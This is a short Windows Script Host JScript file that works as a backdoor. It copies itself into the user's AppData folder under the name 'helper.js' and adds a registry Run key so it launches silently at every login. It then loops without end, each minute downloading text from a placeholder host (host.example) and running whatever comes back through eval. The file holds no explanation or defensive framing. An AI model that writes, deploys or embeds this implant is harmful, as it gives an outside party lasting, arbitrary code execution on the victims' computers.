var fso = new ActiveXObject("Scripting.FileSystemObject"), shell = new ActiveXObject("WScript.Shell");
var home = shell.ExpandEnvironmentStrings("%APPDATA%") + "\\Microsoft\\helper.js";
if (WScript.ScriptFullName != home) {
  fso.CopyFile(WScript.ScriptFullName, home, true);
  shell.RegWrite("HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\Helper", "wscript.exe //B \"" + home + "\"", "REG_SZ");
}
while (true) {
  var x = new ActiveXObject("MSXML2.ServerXMLHTTP.6.0");
  x.open("GET", "http://host.example/task", false); x.send();
  if (x.status == 200) eval(x.responseText);
  WScript.Sleep(60000);
}
